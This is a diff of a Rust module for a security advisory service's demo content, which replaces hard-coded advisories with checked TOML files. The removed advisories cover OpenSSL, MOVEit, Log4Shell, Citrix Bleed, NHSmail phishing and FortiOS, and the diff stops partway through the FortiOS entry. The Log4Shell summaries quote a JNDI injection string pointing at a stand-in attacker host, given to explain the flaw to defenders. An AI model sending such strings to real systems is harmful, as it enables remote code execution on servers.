@@ -1,7 +1,53 @@
-//! What the demo advisories say. Affected products and CVEs are written the way an analyst
-//! fills in the form (one per line) and read with the form's own parsers, so the demo content
-//! is checked, and its CVSS scores worked out, exactly as an analyst's would be.
+//! What the demo advisories say, read from content files, and the check of those files for
+//! `carecert content check`.
+//!
+//! Each demo advisory is one file, `content/advisories/<name>.toml`, built into the binary.
+//! Its facts carry their provenance like every other piece of shipped content: the sources
+//! it cites are `[[sources]]` with a `checked` date (`docs/CONTENT.md`), and the advisory's
+//! references (what the pages and CSAF show) are made from the sources it cites.
+//!
+//! ```toml
+//! title = "…"
+//! severity = "critical"              # critical | high | medium | low, as the analyst form
+//! severity_reason = """…"""
+//! tlp = "CLEAR"                      # CLEAR | GREEN | AMBER | AMBER+STRICT | RED (TLP 2.0)
+//! summary = """…"""
+//! actively_exploited = true
+//! in_kev = true                      # listed in the CISA KEV catalogue
+//! audience = "all"                   # or a list of organisation types: ["nhs_trust", …]
+//! acknowledge_within_hours = 48      # leave out when no acknowledgement is asked for
+//! affected = """
+//! Vendor | Product | >= 1.0, < 1.2 | cpe:2.3:a:vendor:product:*:*:*:*:*:*:*:*
+//! """                                # one product a line, as typed into the analyst form
+//! cves = """
+//! CVE-2024-0001 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H
+//! """                                # one CVE a line, as typed into the analyst form
+//! remediation = ["…", "…"]           # steps, in order
+//! workarounds = ["…"]                # optional: until the fix can be applied
+//! references = ["vendor-bulletin"]   # ids of the sources below, in the order shown
+//! withdrawn_reason = """…"""         # optional: why the demo withdraws it
+//! revision_note = """…"""            # optional: what changed, in a file that revises another
+//!
+//! [[sources]]
+//! id = "vendor-bulletin"
+//! publisher = "Vendor"
+//! title = "Security bulletin"        # shown as the reference "Vendor: Security bulletin"
+//! url = "https://…"
+//! checked = 2026-11-29
+//! ```
+//!
+//! Prose fields may be wrapped anywhere: line breaks and runs of spaces inside a paragraph
+//! read as one space, and a blank line starts a new paragraph. `affected` and `cves` are read
+//! line by line by the analyst form's own parsers, and the whole advisory must pass the checks
+//! the form applies before publication, so the demo content is checked, and its CVSS scores
+//! worked out, exactly as an analyst's would be. Unknown fields, severities, TLP labels and
+//! organisation types are mistakes, as are references to undeclared sources and sources
+//! nothing refers to.
 
+use std::{collections::HashSet, path::Path};
+
+use rust_embed::RustEmbed;
+use serde::Deserialize;
 use time::macros::date;
 
 use crate::{
@@ -11,562 +57,345 @@ use crate::{
         rules::content::{self, LineError},
     },
     organisations::domain::OrgType,
+    platform::provenance::{self, ContentReport, Finding, Source},
 };
 
-/// The parts of an advisory that are plain text.
-struct Text {
-    title: &'static str,
+/// The advisory files, built into the binary.
+#[derive(RustEmbed)]
+#[folder = "content/advisories/"]
+struct Builtin;
+
+/// Where advisory files live under a content folder.
+pub const FOLDER: &str = "advisories";
+
+/// The files the demo story reads, by name.
+pub const DEMO: [&str; 8] = [
+    "openssl",
+    "moveit",
+    "log4j-first",
+    "log4j-second",
+    "citrix-bleed",
+    "phishing",
+    "fortios",
+    "exchange",
+];
+
+/// The demo withdraws this advisory, so its file says why.
+pub const WITHDRAWN: &str = "openssl";
+/// The demo publishes this as a revision of `log4j-first`, so its file says what changed.
+pub const REVISION: &str = "log4j-second";
+
+/// An advisory file as authors write it.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct AdvisoryFile {
+    title: String,
     severity: Severity,
-    severity_reason: &'static str,
+    severity_reason: String,
     tlp: Tlp,
-    summary: &'static str,
+    summary: String,
     actively_exploited: bool,
     in_kev: bool,
-    /// `vendor | product | versions | identifiers`, one per line.
-    affected: &'static str,
-    /// `CVE | CVSS vector`, one per line.
-    cves: &'static str,
-    remediation: &'static [&'static str],
-    workarounds: &'static [&'static str],
-    /// Link and title.
-    references: &'static [(&'static str, &'static str)],
-    /// Hours to acknowledge; `None` when no acknowledgement is asked for.
-    ack_hours: Option<u32>,
+    audience: AudienceField,
+    acknowledge_within_hours: Option<u32>,
+    #[serde(default)]
+    affected: String,
+    #[serde(default)]
+    cves: String,
+    remediation: Vec<String>,
+    #[serde(default)]
+    workarounds: Vec<String>,
+    references: Vec<String>,
+    withdrawn_reason: Option<String>,
+    revision_note: Option<String>,
+    #[serde(default)]
+    sources: Vec<Source>,
+}
+
+/// `"all"`, or a list of organisation types. Read as text first so that an unknown word
+/// is reported by name rather than as "did not match any variant".
+#[derive(Debug, Deserialize)]
+#[serde(untagged)]
+enum AudienceField {
+    Word(String),
+    Types(Vec<String>),
+}
+
+/// One demo advisory as read from its file.
+#[derive(Debug, Clone)]
+pub struct DemoAdvisory {
+    pub content: AdvisoryContent,
+    /// Why the demo withdraws it, for the one it withdraws.
+    pub withdrawn_reason: Option<String>,
+    /// What changed, for an advisory that revises another.
+    pub revision_note: Option<String>,
+    pub sources: Vec<Source>,
+}
+
+impl DemoAdvisory {
+    /// What it holds, for the check's list: "1 affected product, 1 CVE, 5 sources".
+    fn counts(&self) -> String {
+        let count = |n: usize, what: &str| {
+            if n == 1 {
+                format!("1 {what}")
+            } else {
+                format!("{n} {what}s")
+            }
+        };
+        let c = &self.content;
+        format!(
+            "{}, {}, {}",
+            count(c.affected.len(), "affected product"),
+            count(c.cves.len(), "CVE"),
+            count(self.sources.len(), "source")
+        )
+    }
+}
+
+/// Prose as authors wrap it in the file: line breaks and runs of spaces inside a paragraph
+/// become one space, and paragraphs are separated by one blank line, so the published text
+/// does not depend on where the author's editor wrapped it.
+fn prose(text: &str) -> String {
+    let mut paragraphs = Vec::new();
+    let mut current = String::new();
+    for line in text.lines() {
+        if line.trim().is_empty() {
+            if !current.is_empty() {
+                paragraphs.push(std::mem::take(&mut current));
+            }
+            continue;
+        }
+        for word in line.split_whitespace() {
+            if !current.is_empty() {
+                current.push(' ');
+            }
+            current.push_str(word);
+        }
+    }
+    if !current.is_empty() {
+        paragraphs.push(current);
+    }
+    paragraphs.join("\n\n")
+}
+
+fn audience(field: AudienceField, problems: &mut Vec<String>) -> Audience {
+    match field {
+        AudienceField::Word(word) if word == "all" => Audience::All,
+        AudienceField::Word(word) => {
+            problems.push(format!(
+                "audience {word:?} is not known: write \"all\" or a list of organisation types"
+            ));
+            Audience::All
+        }
+        AudienceField::Types(words) => {
+            let mut types = Vec::new();
+            for word in words {
+                match word.parse::<OrgType>() {
+                    Ok(t) if OrgType::REGISTRABLE.contains(&t) => types.push(t),
+                    _ => {
+                        let known: Vec<&str> =
+                            OrgType::REGISTRABLE.iter().map(|t| t.as_str()).collect();
+                        problems.push(format!(
+                            "audience type {word:?} is not one of {}",
+                            known.join(", ")
+                        ));
+                    }
+                }
+            }
+            Audience::Types(types)
+        }
+    }
 }
 
 fn lines<T>(
-    title: &str,
     field: &str,
     parsed: Result<Vec<T>, Vec<LineError>>,
-) -> anyhow::Result<Vec<T>> {
-    parsed.map_err(|errors| {
-        let problems: Vec<String> = errors.iter().map(ToString::to_string).collect();
+    problems: &mut Vec<String>,
+) -> Vec<T> {
+    parsed.unwrap_or_else(|errors| {
+        problems.extend(errors.iter().map(|e| format!("{field}: {e}")));
+        vec![]
+    })
+}
+
+/// The advisory's references, made from the sources it cites, in the order it cites them;
+/// and the problems with the citations.
+fn references(file: &AdvisoryFile, problems: &mut Vec<String>) -> Vec<Reference> {
+    let (source_problems, declared) = provenance::problems(&file.sources);
+    problems.extend(source_problems);
+    let mut cited = HashSet::new();
+    let mut out = Vec::new();
+    for id in &file.references {
+        if !cited.insert(id.as_str()) {
+            problems.push(format!("references lists {id:?} twice"));
+            continue;
+        }
+        match file.sources.iter().find(|s| &s.id == id) {
+            Some(s) => out.push(Reference {
+                url: s.url.clone(),
+                title: format!("{}: {}", s.publisher, s.title),
+            }),
+            None => problems.push(format!(
+                "references names {id:?}, which no [[sources]] entry declares"
+            )),
+        }
+    }
+    let mut unused: Vec<&String> = declared
+        .iter()
+        .filter(|id| !cited.contains(id.as_str()))
+        .collect();
+    unused.sort();
+    for id in unused {
+        problems.push(format!(
+            "source {id:?} is declared but not in references: cite it or remove it"
+        ));
+    }
+    out
+}
+
+/// Reads one advisory file, or every problem with it (each a sentence for the author).
+pub fn parse(text: &str) -> Result<DemoAdvisory, Vec<String>> {
+    let file: AdvisoryFile =
+        toml::from_str(text).map_err(|e| vec![e.to_string().trim().replace('\n', " ")])?;
+    let mut problems = Vec::new();
+    let references = references(&file, &mut problems);
+    let affected = lines(
+        "affected",
+        content::parse_affected(&file.affected),
+        &mut problems,
+    );
+    let cves = lines("cves", content::parse_cves(&file.cves), &mut problems);
+    let steps = |list: &[String]| list.iter().map(|s| prose(s)).collect();
+    let advisory = AdvisoryContent {
+        title: prose(&file.title),
+        severity: file.severity,
+        severity_reason: prose(&file.severity_reason),
+        tlp: file.tlp,
+        summary: prose(&file.summary),
+        actively_exploited: file.actively_exploited,
+        in_kev: file.in_kev,
+        affected,
+        cves,
+        remediation: steps(&file.remediation),
+        workarounds: steps(&file.workarounds),
+        references,
+        audience: audience(file.audience, &mut problems),
+        ack_required: file.acknowledge_within_hours.is_some(),
+        ack_hours: file.acknowledge_within_hours,
+    };
+    // The rules the analyst form applies before an advisory can be published.
+    problems.extend(
+        content::check(&advisory)
+            .into_iter()
+            .map(|(field, message)| format!("{field}: {message}")),
+    );
+    if !problems.is_empty() {
+        return Err(problems);
+    }
+    Ok(DemoAdvisory {
+        content: advisory,
+        withdrawn_reason: file.withdrawn_reason.as_deref().map(prose),
+        revision_note: file.revision_note.as_deref().map(prose),
+        sources: file.sources,
+    })
+}
+
+/// The built-in advisory file `<name>.toml`.
+pub fn builtin(name: &str) -> anyhow::Result<DemoAdvisory> {
+    let path = format!("{name}.toml");
+    let file = Builtin::get(&path)
+        .ok_or_else(|| anyhow::anyhow!("The demo advisory file {FOLDER}/{path} is missing"))?;
+    let text = String::from_utf8_lossy(&file.data);
+    parse(&text).map_err(|problems| {
         anyhow::anyhow!(
-            "The demo advisory '{title}' has mistakes in its {field}: {}",
+            "The demo advisory file {FOLDER}/{path} has mistakes: {}",
             problems.join("; ")
         )
     })
 }
 
-fn build(t: Text, audience: Audience) -> anyhow::Result<AdvisoryContent> {
-    let steps = |list: &[&str]| list.iter().map(|s| (*s).to_owned()).collect();
-    Ok(AdvisoryContent {
-        title: t.title.to_owned(),
-        severity: t.severity,
-        severity_reason: t.severity_reason.to_owned(),
-        tlp: t.tlp,
-        summary: t.summary.to_owned(),
-        actively_exploited: t.actively_exploited,
-        in_kev: t.in_kev,
-        affected: lines(
-            t.title,
-            "affected products",
-            content::parse_affected(t.affected),
-        )?,
-        cves: lines(t.title, "CVEs", content::parse_cves(t.cves))?,
-        remediation: steps(t.remediation),
-        workarounds: steps(t.workarounds),
-        references: t
-            .references
-            .iter()
-            .map(|(url, title)| Reference {
-                url: (*url).to_owned(),
-                title: (*title).to_owned(),
-            })
-            .collect(),
-        audience,
-        ack_required: t.ack_hours.is_some(),
-        ack_hours: t.ack_hours,
-    })
+/// The content of the built-in advisory `<name>`.
+pub fn content(name: &str) -> anyhow::Result<AdvisoryContent> {
+    builtin(name).map(|a| a.content)
 }
 
-/// Organisations that run their own data centres and internet-facing equipment.
-fn larger_organisations() -> Audience {
-    Audience::Types(vec![
-        OrgType::NhsTrust,
-        OrgType::IntegratedCareBoard,
-        OrgType::Other,
-    ])
+/// Checks the advisory files under `root` (`advisories/*.toml`) for `carecert content
+/// check`: each reads as the demo would read it, and the files the demo story needs are
+/// there and say what it needs of them.
+pub fn check_folder(root: &Path) -> ContentReport {
+    let mut report = ContentReport::default();
+    let dir = root.join(FOLDER);
+    let problem = |file: String, message: String| Finding { file, message };
+    let entries = match std::fs::read_dir(&dir) {
+        Ok(entries) => entries,
+        Err(e) => {
+            report.problems.push(problem(
+                FOLDER.to_owned(),
+                format!("cannot be read ({e}): the demo advisories live here"),
+            ));
+            return report;
+        }
+    };
+    let mut names: Vec<String> = entries
+        .filter_map(Result::ok)
+        .filter_map(|e| {
+            let name = e.file_name().to_string_lossy().into_owned();
+            name.strip_suffix(".toml").map(str::to_owned)
+        })
+        .collect();
+    names.sort();
+    for name in DEMO {
+        if !names.iter().any(|n| n == name) {
+            report.problems.push(problem(
+                format!("{FOLDER}/{name}.toml"),
+                "is missing: the demo story reads it".to_owned(),
+            ));
+        }
+    }
+    for name in &names {
+        let file = format!("{FOLDER}/{name}.toml");
+        let text = match std::fs::read_to_string(dir.join(format!("{name}.toml"))) {
+            Ok(text) => text,
+            Err(e) => {
+                report
+                    .problems
+                    .push(problem(file, format!("cannot be read: {e}")));
+                continue;
+            }
+        };
+        match parse(&text) {
+            Ok(advisory) => {
+                if name == WITHDRAWN && advisory.withdrawn_reason.is_none() {
+                    report.problems.push(problem(
+                        file.clone(),
+                        "needs withdrawn_reason: the demo withdraws this advisory".to_owned(),
+                    ));
+                }
+                if name == REVISION && advisory.revision_note.is_none() {
+                    report.problems.push(problem(
+                        file.clone(),
+                        "needs revision_note: the demo publishes it as a revision".to_owned(),
+                    ));
+                }
+                report
+                    .passed
+                    .push(format!("advisory {name} ({})", advisory.counts()));
+                report
+                    .sources
+                    .extend(advisory.sources.into_iter().map(|s| (file.clone(), s)));
+            }
+            Err(problems) => report.problems.extend(
+                problems
+                    .into_iter()
+                    .map(|message| problem(file.clone(), message)),
+            ),
+        }
+    }
+    report
 }
 
-/// Sent ahead of an OpenSSL release; withdrawn once the release showed it was less serious.
-pub fn openssl() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: "OpenSSL 3.0: security fix rated critical due in the next release",
-            severity: Severity::Critical,
-            severity_reason: "The OpenSSL project has rated the coming fix critical, its highest \
-                rating, and OpenSSL 3.0 is built into many web servers, appliances and \
-                applications, often without the organisation knowing which version they run.",
-            tlp: Tlp::Clear,
-            summary: "The OpenSSL project has announced that OpenSSL 3.0.7 will fix a security \
-                flaw it rates critical. Only the 3.0 series is affected: 1.1.1 and 1.0.2 are \
-                not. Details will be published with the release. Use the time before then to \
-                find every copy of OpenSSL 3.0 you run, including copies bundled inside \
-                applications and appliances, so you can upgrade as soon as the fix is out.",
-            actively_exploited: false,
-            in_kev: false,
-            affected: "OpenSSL | OpenSSL | >= 3.0.0, < 3.0.7 | \
-                cpe:2.3:a:openssl:openssl:*:*:*:*:*:*:*:*",
-            cves: "",
-            remediation: &[
-                "Find every copy of OpenSSL 3.0: on servers, in container images and inside \
-                 applications that bring their own (Node.js 18, for example).",
-                "Plan to upgrade each of them to OpenSSL 3.0.7 as soon as it is released, taking \
-                 the update from your operating system vendor where OpenSSL came with the \
-                 operating system.",
-                "Ask the suppliers of appliances and products that contain OpenSSL 3.0 when they \
-                 will ship the fix.",
-            ],
-            workarounds: &[],
-            references: &[
-                (
-                    "https://www.openssl.org/news/secadv/",
-                    "OpenSSL security advisories",
-                ),
-                (
-                    "https://www.openssl.org/policies/general/security-policy.html",
-                    "OpenSSL security policy: what the severity ratings mean",
-                ),
-            ],
-            ack_hours: Some(48),
-        },
-        Audience::All,
-    )
-}
-
-/// Why the OpenSSL advisory was withdrawn.
-pub const OPENSSL_WITHDRAWN: &str = "OpenSSL 3.0.7 is out. The flaws it fixes (CVE-2022-3602 \
-    and CVE-2022-3786, buffer overflows when checking the email addresses in certificates) were \
-    rated high, not critical, on release: on common platforms they are likely to crash a \
-    program rather than let an attacker run code. No response is needed; upgrade OpenSSL 3.0 \
-    to 3.0.7 or later through routine patching.";
-
-pub fn moveit() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: "Progress MOVEit Transfer: SQL injection exploited to steal files \
-                (CVE-2023-34362)",
-            severity: Severity::Critical,
-            severity_reason: "Exploited before a fix existed by a criminal extortion group that \
-                has stolen data from hundreds of organisations. No sign-in is needed, and MOVEit \
-                Transfer is used to exchange patient and staff data with partners. Listed in \
-                the CISA Known Exploited Vulnerabilities catalogue.",
-            tlp: Tlp::Clear,
-            summary: "The MOVEit Transfer web application puts what it receives from its web \
-                interface into database commands without making it safe. Anyone who can reach \
-                the web interface over HTTP or HTTPS can read and change the database. \
-                Attackers have used this to install a web shell, often named human2.aspx, and \
-                download the files stored on the server. Servers you run yourselves are \
-                affected; Progress has patched MOVEit Cloud. Patch, then check whether data has \
-                already been taken.",
-            actively_exploited: true,
-            in_kev: true,
-            affected: "Progress | MOVEit Transfer | < 2021.0.6; >= 2021.1.0, < 2021.1.4; \
-                >= 2022.0.0, < 2022.0.4; >= 2022.1.0, < 2022.1.5; >= 2023.0.0, < 2023.0.1 | \
-                cpe:2.3:a:progress:moveit_transfer:*:*:*:*:*:*:*:*",
-            cves: "CVE-2023-34362 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-            remediation: &[
-                "Block inbound HTTP and HTTPS (ports 80 and 443) to MOVEit Transfer until the \
-                 fix is installed. The web interface stops working meanwhile; SFTP and FTP \
-                 transfers carry on.",
-                "Install the fixed version for your release: 2021.0.6, 2021.1.4, 2022.0.4, \
-                 2022.1.5 or 2023.0.1, or any later version.",
-                "Look for signs of compromise: human2.aspx or other recently created .aspx or \
-                 .cmdline files in the MOVEit wwwroot folder, user accounts you do not \
-                 recognise, and large downloads to unfamiliar IP addresses in the logs.",
-                "If you find any, delete the files and accounts, reset the credentials of every \
-                 MOVEit service account, and report an incident to CareCERT: data may have \
-                 been taken.",
-            ],
-            workarounds: &[],
-            references: &[
-                (
-                    "https://community.progress.com/s/article/MOVEit-Transfer-Critical-Vulnerability-31May2023",
-                    "Progress: MOVEit Transfer critical vulnerability",
-                ),
-                (
-                    "https://www.cisa.gov/news-events/cybersecurity-advisories/aa23-158a",
-                    "CISA and FBI: CL0P ransomware gang exploits CVE-2023-34362",
-                ),
-                (
-                    "https://nvd.nist.gov/vuln/detail/CVE-2023-34362",
-                    "NVD: CVE-2023-34362",
-                ),
-            ],
-            ack_hours: Some(48),
-        },
-        Audience::All,
-    )
-}
-
-const LOG4J_TITLE: &str = "Apache Log4j 2: remote code execution through logged text (Log4Shell)";
-const LOG4J_REASON: &str = "Anyone who can get a chosen piece of text logged by an affected \
-    application can run code on the server, and attackers are scanning for it everywhere. \
-    Log4j is built into a great many Java applications, including clinical and back-office \
-    products from suppliers, so most organisations run it somewhere.";
-const LOG4J_FIND: &str = "Search servers for log4j-core JAR files, including copies nested \
-    inside WAR and EAR archives, rather than relying on software lists.";
-const LOG4J_SUPPLIERS: &str = "For products you buy, ask each supplier whether the product \
-    contains Log4j 2 and when a fixed version will be available; record the answer and follow \
-    their instructions.";
-const LOG4J_EGRESS: &str = "Block outbound connections from servers to the internet except \
-    where they are needed, so an attack cannot fetch its code.";
-const LOG4J_REFERENCES: &[(&str, &str)] = &[
-    (
-        "https://logging.apache.org/log4j/2.x/security.html",
-        "Apache Log4j security vulnerabilities",
-    ),
-    (
-        "https://www.ncsc.gov.uk/information/log4j-vulnerability-what-everyone-needs-to-know",
-        "NCSC: Log4j vulnerability, what everyone needs to know",
-    ),
-    (
-        "https://www.cisa.gov/news-events/news/apache-log4j-vulnerability-guidance",
-        "CISA: Apache Log4j vulnerability guidance",
-    ),
-];
-
-/// The first version of the Log4j advisory, as first published.
-pub fn log4j_first() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: LOG4J_TITLE,
-            severity: Severity::Critical,
-            severity_reason: LOG4J_REASON,
-            tlp: Tlp::Clear,
-            summary: "Log4j 2 expands lookups written inside the messages it logs. When a \
-                message contains text such as ${jndi:ldap://attacker.example/a}, an affected \
-                version contacts that server and can load and run the Java code it sends back. \
-                Anything an outsider can get logged is enough: a user name, a search term, a \
-                web browser's User-Agent header. Blocking outbound connections reduces the risk \
-                but does not remove it. Ask suppliers too: many products ship their own copy of \
-                Log4j.",
-            actively_exploited: true,
-            in_kev: true,
-            affected: "Apache | Log4j | >= 2.0-beta9, < 2.15.0 | \
-                cpe:2.3:a:apache:log4j:*:*:*:*:*:*:*:* \
-                pkg:maven/org.apache.logging.log4j/log4j-core",
-            cves: "CVE-2021-44228 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
-            remediation: &[
-                "Upgrade log4j-core to 2.15.0 or later in every application you build or \
-                 control.",
-                LOG4J_SUPPLIERS,
-                LOG4J_FIND,
-            ],
-            workarounds: &[
-                "On Log4j 2.10 and later, where you cannot upgrade yet, set the system property \
-                 log4j2.formatMsgNoLookups=true (or the environment variable \
-                 LOG4J_FORMAT_MSG_NO_LOOKUPS=true) and restart the application.",
-                "Or remove the JndiLookup class from the JAR file: zip -q -d \
-                 log4j-core-*.jar org/apache/logging/log4j/core/lookup/JndiLookup.class",
-                LOG4J_EGRESS,
-            ],
-            references: LOG4J_REFERENCES,
-            ack_hours: Some(48),
-        },
-        Audience::All,
-    )
-}
-
-/// The second version of the Log4j advisory, after the first fix proved incomplete.
-pub fn log4j_second() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: LOG4J_TITLE,
-            severity: Severity::Critical,
-            severity_reason: LOG4J_REASON,
-            tlp: Tlp::Clear,
-            summary: "Log4j 2 expands lookups written inside the messages it logs. When a \
-                message contains text such as ${jndi:ldap://attacker.example/a}, an affected \
-                version contacts that server and can load and run the Java code it sends back. \
-                Anything an outsider can get logged is enough: a user name, a search term, a \
-                web browser's User-Agent header. The first fix, 2.15.0, was incomplete \
-                (CVE-2021-45046); two further flaws were then fixed in 2.17.0 (CVE-2021-45105, \
-                a denial of service) and 2.17.1 (CVE-2021-44832, code execution by someone who \
-                can change the logging configuration). Version 2.17.1 fixes all four.",
-            actively_exploited: true,
-            in_kev: true,
-            affected: "Apache | Log4j | >= 2.0-beta7, < 2.3.2; >= 2.4, < 2.12.4; \
-                >= 2.13.0, < 2.17.1 | \
-                cpe:2.3:a:apache:log4j:*:*:*:*:*:*:*:* \
-                pkg:maven/org.apache.logging.log4j/log4j-core",
-            cves: "CVE-2021-44228 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H\n\
-                CVE-2021-45046 | CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H\n\
-                CVE-2021-45105 | CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:H\n\
-                CVE-2021-44832 | CVSS:3.1/AV:N/AC:H/PR:H/UI:N/S:U/C:H/I:H/A:H",
-            remediation: &[
-                "Upgrade log4j-core to 2.17.1 or later in every application you build or \
-                 control; use 2.12.4 if the application must run on Java 7, or 2.3.2 on \
-                 Java 6.",
-                LOG4J_SUPPLIERS,
-                LOG4J_FIND,
-            ],
-            workarounds: &[
-                "Where you cannot upgrade yet, remove the JndiLookup class from the JAR file: \
-                 zip -q -d log4j-core-*.jar \
-                 org/apache/logging/log4j/core/lookup/JndiLookup.class. The \
-                 formatMsgNoLookups setting in the first version of this advisory does not \
-                 protect against CVE-2021-45046; do not rely on it.",
-                LOG4J_EGRESS,
-            ],
-            references: LOG4J_REFERENCES,
-            ack_hours: Some(48),
-        },
-        Audience::All,
-    )
-}
-
-/// What changed in the second version of the Log4j advisory.
-pub const LOG4J_REVISION: &str = "Log4j 2.15.0 did not fully fix the flaw (CVE-2021-45046), \
-    and two more have been fixed since (CVE-2021-45105 and CVE-2021-44832). Affected versions \
-    now run up to 2.17.0: upgrade to 2.17.1 (2.12.4 on Java 7, 2.3.2 on Java 6). The \
-    formatMsgNoLookups workaround is withdrawn because it does not protect against \
-    CVE-2021-45046.";
-
-pub fn citrix_bleed() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: "Citrix NetScaler ADC and Gateway: session tokens leak to unauthenticated \
-                attackers (Citrix Bleed, CVE-2023-4966)",
-            severity: Severity::Critical,
-            severity_reason: "Exploited at scale to take over signed-in sessions, which gets \
-                past passwords and two-step verification alike, and used by ransomware groups \
-                to get into networks. Many health organisations publish NetScaler Gateway to \
-                the internet for remote access. Listed in the CISA Known Exploited \
-                Vulnerabilities catalogue.",
-            tlp: Tlp::Clear,
-            summary: "A flaw in NetScaler ADC and NetScaler Gateway lets anyone on the internet \
-                send a crafted request to an appliance configured as a Gateway (VPN virtual \
-                server, ICA Proxy, CVPN or RDP Proxy) or as an AAA virtual server, and read \
-                memory the appliance should never return. That memory holds the session tokens \
-                of people who are signed in, and an attacker can replay them to take over those \
-                sessions without a password or a two-step code. Upgrading stops new leaks but \
-                does not end sessions already stolen: after upgrading, end every active and \
-                persistent session.",
-            actively_exploited: true,
-            in_kev: true,
-            affected: "Citrix | NetScaler ADC | >= 14.1, < 14.1-8.50; >= 13.1, < 13.1-49.15; \
-                >= 13.0, < 13.0-92.19; >= 12.1, < 13.0 | \
-                cpe:2.3:a:citrix:netscaler_application_delivery_controller:*:*:*:*:*:*:*:*\n\
-                Citrix | NetScaler Gateway | >= 14.1, < 14.1-8.50; >= 13.1, < 13.1-49.15; \
-                >= 13.0, < 13.0-92.19; >= 12.1, < 13.0 | \
-                cpe:2.3:a:citrix:netscaler_gateway:*:*:*:*:*:*:*:*",
-            cves: "CVE-2023-4966 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:L",
-            remediation: &[
-                "Upgrade every NetScaler ADC and NetScaler Gateway appliance to 14.1-8.50, \
-                 13.1-49.15 or 13.0-92.19, or a later build of the same release. FIPS and \
-                 NDcPP builds have their own fixed builds: 13.1-37.164 and 12.1-55.300.",
-                "Straight after upgrading, end every existing session so that stolen tokens \
-                 stop working: kill aaa session -all, kill icaconnection -all, kill rdp \
-                 connection -all, kill pcoipConnection -all, then clear lb persistentSessions.",
-                "Replace appliances on release 12.1: it is end of life and will not be fixed.",
-                "Check the appliance logs for sessions used from more than one IP address or \
-                 from places your staff do not work. Treat any as a compromise: report an \
-                 incident to CareCERT and reset the credentials of the accounts concerned.",
-            ],
-            workarounds: &[
-                "There is no configuration change that removes the flaw. If you cannot upgrade \
-                 straight away, take Gateway and AAA virtual servers off the internet until \
-                 you can.",
-            ],
-            references: &[
-                (
-                    "https://support.citrix.com/article/CTX579459",
-                    "Citrix: NetScaler ADC and NetScaler Gateway security bulletin for \
-                     CVE-2023-4966",
-                ),
-                (
-                    "https://www.cisa.gov/guidance-addressing-citrix-netscaler-adc-and-gateway-vulnerability-cve-2023-4966-citrix-bleed",
-                    "CISA: guidance on addressing Citrix Bleed",
-                ),
-                (
-                    "https://nvd.nist.gov/vuln/detail/CVE-2023-4966",
-                    "NVD: CVE-2023-4966",
-                ),
-            ],
-            ack_hours: Some(48),
-        },
-        Audience::All,
-    )
-}
-
-pub fn phishing() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: "Phishing emails posing as NHSmail password expiry notices",
-            severity: Severity::Medium,
-            severity_reason: "Large numbers of staff are receiving these, and a stolen mail \
-                account is used to send the same email on to colleagues and partners from a \
-                trusted address. There is no software flaw to fix: what matters is that staff \
-                recognise the email and that accounts whose details were entered are secured \
-                quickly.",
-            tlp: Tlp::Green,
-            summary: "Staff in several regions have received emails saying their NHSmail \
-                password expires today, with a button to keep their current password. The \
-                button opens a convincing copy of the NHSmail sign-in page on a newly \
-                registered web address. It asks for the email address, the password and then \
-                the two-step verification code, and passes each to the attacker at once, so \
-                the attacker can sign in while the code is still valid. The emails are sent \
-                from genuine accounts at other organisations that were taken over this way, so \
-                they pass the usual sender checks.",
-            actively_exploited: true,
-            in_kev: false,
-            affected: "",
-            cves: "",
-            remediation: &[
-                "Warn staff about this email. Tell them not to follow links in emails about \
-                 their password: to check, they should go to NHSmail by typing its address or \
-                 using a bookmark.",
-                "Ask staff to forward suspicious emails to spamreports@nhs.net, the NHSmail \
-                 address for spam and phishing, and then delete them.",
-                "For each person who entered their details: reset the password, sign them out \
-                 of every session, remove any inbox rules and two-step methods they did not \
-                 set up themselves, and report an incident to CareCERT.",
-                "Do not make everyone change their password. Only the accounts whose details \
-                 were entered need a reset; regular forced changes lead to weaker, reused \
-                 passwords, and the NCSC no longer advises them.",
-                "Make sure every account has two-step verification turned on: it still stops \
-                 an attacker who has only the password from signing in later. For \
-                 administrators first, prefer methods a fake sign-in page cannot relay, such as \
-                 security keys or passkeys.",
-            ],
-            workarounds: &[],
-            references: &[
-                (
-                    "https://www.ncsc.gov.uk/guidance/phishing",
-                    "NCSC: Phishing attacks, defending your organisation",
-                ),
-                (
-                    "https://www.ncsc.gov.uk/collection/passwords/updating-your-approach",
-                    "NCSC: Password administration for system owners",
-                ),
-                (
-                    "https://www.ncsc.gov.uk/guidance/multi-factor-authentication-online-services",
-                    "NCSC: Multi-factor authentication for online services",
-                ),
-            ],
-            ack_hours: None,
-        },
-        Audience::All,
-    )
-}
-
-pub fn fortios() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: "Fortinet FortiOS and FortiProxy SSL VPN: out-of-bounds write allows remote \
-                code execution (CVE-2024-21762)",
-            severity: Severity::Critical,
-            severity_reason: "Anyone on the internet can run code on the firewall at the edge \
-                of the network, without signing in. Fortinet says it is potentially being \
-                exploited, and it is in the CISA Known Exploited Vulnerabilities catalogue. Our \
-                external scan found FortiGate SSL VPN portals reachable from the internet at \
-                organisations in this audience, which is why this advisory is TLP:AMBER.",
-            tlp: Tlp::Amber,
-            summary: "An out-of-bounds write in the SSL VPN service of FortiOS and FortiProxy \
-                (sslvpnd) lets a remote attacker run code or commands on the device by sending \
-                crafted HTTP requests. Only devices with SSL VPN enabled are exposed, but that \
-                is how most organisations give staff remote access. A compromised firewall \
-                gives an attacker a foothold inside the network that most monitoring does not \
-                see.",
-            actively_exploited: true,
-            in_kev: true,
-            affected: "Fortinet | FortiOS | >= 7.4.0, <= 7.4.2; >= 7.2.0, <= 7.2.6; \
